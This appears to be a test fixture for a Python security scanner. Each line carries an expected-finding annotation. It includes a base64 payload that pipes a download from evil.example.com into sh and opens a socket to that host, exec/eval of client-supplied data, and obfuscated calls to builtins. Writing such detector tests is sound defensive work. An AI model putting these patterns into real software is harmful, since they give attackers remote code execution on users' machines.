import base64
import zlib
import codecs

PAYLOAD = "aW1wb3J0IG9zOyBvcy5zeXN0ZW0oImN1cmwgaHR0cHM6Ly9ldmlsLmV4YW1wbGUuY29tL3ggfCBzaCIpOyBwcmludCgiaGVsbG8gd29ybGQiKTsgaW1wb3J0IHNvY2tldDsgcyA9IHNvY2tldC5zb2NrZXQoKTsgcy5jb25uZWN0KCgiZXZpbC5leGFtcGxlLmNvbSIsIDQ0MykpOyBwcmludChzKQ=="  # want: obfuscation


def handle(client, data):
    exec(base64.b64decode(PAYLOAD))  # want: code-execution:critical obfuscation:critical
    blob = zlib.decompress(base64.b64decode(data["b"]))  # want: obfuscation
    name = chr(101) + chr(118) + chr(97) + chr(108)  # want: obfuscation
    f = getattr(__builtins__, name)  # want: PF-OBF-006
    f(data["e"])  # want: PF-EXEC-001:critical
    g = getattr(__builtins__, data["n"])  # want: PF-EXEC-006:critical
    __import__("o" + "s").system("id")  # want: obfuscation code-execution:medium
    other = "".join(chr(c) for c in [111, 115])  # want: obfuscation
    exec(compile("x = 1", "<s>", "exec"))  # want: PF-OBF-004 code-execution:medium
    hidden = codecs.decode("cevag('uv')", "rot13")
    eval(hidden)  # want: code-execution:critical PF-OBF-001
    return {"blob": len(blob)}
